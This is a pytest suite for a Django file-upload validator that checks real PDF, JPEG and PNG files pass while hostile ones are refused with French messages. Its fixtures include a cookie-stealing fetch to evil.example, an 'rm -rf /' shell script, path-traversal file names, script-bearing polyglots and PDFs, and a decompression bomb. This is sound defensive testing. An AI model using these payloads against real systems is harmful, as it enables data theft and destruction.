"""Hostile and honest uploads: only real PDF, JPEG and PNG files pass, whatever their name claims."""

import hashlib
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from storage.inspection import inspect_upload, safe_name
from tests.samples import image_bytes, pdf_bytes, phone_photo

MB = 1024 * 1024


def inspect(data: bytes, name: str, max_bytes: int = 10 * MB):
    return inspect_upload(io.BytesIO(data), name, max_bytes)


def zip_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("scan.pdf", pdf_bytes())
    return output.getvalue()


def test_a_phone_photo_passes_upright_and_without_its_metadata():
    inspected = inspect(phone_photo(), "IMG_2041.JPG")

    assert inspected.content_type == "image/jpeg" and inspected.name == "IMG_2041.jpg"
    assert inspected.original_name == "IMG_2041.JPG"
    with Image.open(io.BytesIO(inspected.content)) as stored:
        assert stored.size == (3024, 4032)  # the EXIF rotation applied
        assert not stored.getexif()  # no maker, no GPS position
    assert inspected.size == len(inspected.content)
    assert inspected.sha256 == hashlib.sha256(inspected.content).hexdigest()


def test_anything_hidden_after_a_photo_is_dropped():
    polyglot = image_bytes("JPEG") + b"<html><script>alert(1)</script></html>" + zip_bytes()

    inspected = inspect(polyglot, "photo.jpg")

    assert b"<script>" not in inspected.content and b"PK\x03\x04" not in inspected.content


def hand_written_pdf(catalog_extra: bytes = b"") -> bytes:
    """A minimal PDF written by hand, as an attacker would, with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf (/JS /JavaScript /Launch) Tj ET\nendstream",
    ]
    output, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    output += b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(output)


def test_a_script_behind_escaped_names_is_found():
    escaped = hand_written_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")

    with pytest.raises(ValidationError, match="contient du code"):
        inspect(escaped, "scan.pdf")


def test_words_that_look_like_scripts_inside_the_text_are_not_scripts():
    assert inspect(hand_written_pdf(), "scan.pdf").content_type == "application/pdf"


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (pdf_bytes(), "Attestation assurance.pdf", "application/pdf"),
        (image_bytes("PNG"), "capture.png", "image/png"),
        (image_bytes("JPEG"), "photo sans extension", "image/jpeg"),
    ],
)
def test_honest_files_pass(data, name, content_type):
    assert inspect(data, name).content_type == content_type


HOSTILE = {
    "html page named .pdf": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "facture.pdf", "ni un PDF"),
    "svg with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "logo.svg",
        "ni un PDF",
    ),
    "javascript file": (b"fetch('https://evil.example/'+document.cookie)", "scan.js", "ni un PDF"),
    "windows executable": (b"MZ\x90\x00\x03" + b"\x00" * 200, "setup.exe", "Les programmes ne sont pas acceptés."),
    "executable named .pdf": (
        b"MZ\x90\x00\x03" + b"\x00" * 200,
        "photo.jpg.pdf",
        "Les programmes ne sont pas acceptés.",
    ),
    "linux executable": (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "vaccins.pdf", "Les programmes ne sont pas acceptés."),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "notes.pdf", "Les programmes ne sont pas acceptés."),
    "zip archive": (zip_bytes(), "documents.zip", "Les archives (ZIP…) ne sont pas acceptées"),
    "pdf with javascript": (pdf_bytes(javascript="app.alert('x');"), "dossier.pdf", "Ce PDF contient du code"),
    "password-protected pdf": (pdf_bytes(password="secret"), "qf.pdf", "protégé par un mot de passe"),
    "jpeg named .png": (image_bytes("JPEG"), "photo.png", "ne correspond pas à son extension « .png »"),
    "png named .pdf": (image_bytes("PNG"), "attestation.pdf", "ne correspond pas à son extension « .pdf »"),
    "pdf named .exe": (pdf_bytes(), "attestation.exe", "ne correspond pas à son extension « .exe »"),
    "truncated photo": (phone_photo()[:40_000], "IMG_2042.jpg", "Cette image est abîmée ou incomplète"),
    "jpeg header over html": (b"\xff\xd8\xff\xe0" + b"<html><script>alert(1)</script></html>", "a.jpg", "abîmée"),
    "truncated pdf": (pdf_bytes()[:60], "scan.pdf", "Ce PDF est abîmé ou incomplet."),
    "decompression bomb": (image_bytes("PNG1", (12_000, 12_000)), "bombe.png", "plus de 50 mégapixels"),
    "gif image": (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        "anim.gif",
        "ni un PDF",
    ),
    "heic photo": (
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100,
        "IMG_2043.HEIC",
        "Les photos HEIC",
    ),
    "empty file": (b"", "vide.pdf", "Le fichier est vide."),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused_with_a_clear_french_message(case):
    data, name, message = HOSTILE[case]

    with pytest.raises(ValidationError) as refused:
        inspect(data, name)

    assert message in refused.value.messages[0]


def test_a_file_over_the_limit_is_refused_without_reading_it_all():
    data = pdf_bytes() + b"%" * (2 * MB)

    with pytest.raises(ValidationError) as refused:
        inspect(data, "gros.pdf", max_bytes=1 * MB)

    assert refused.value.messages == ["Le fichier dépasse la taille autorisée (1 Mo)."]


@pytest.mark.parametrize(
    ("client_name", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Léa\\Scan du 3 mars.pdf", "Scan_du_3_mars.pdf"),
        ("\x00\x1f.pdf", "document.pdf"),
        ("<script>alert(1)</script>.pdf", "script.pdf"),  # the slash ends the path
        ("a" * 300 + ".pdf", "a" * 80 + ".pdf"),
    ],
)
def test_names_are_sanitised(client_name, expected):
    assert safe_name(client_name, "pdf") == expected
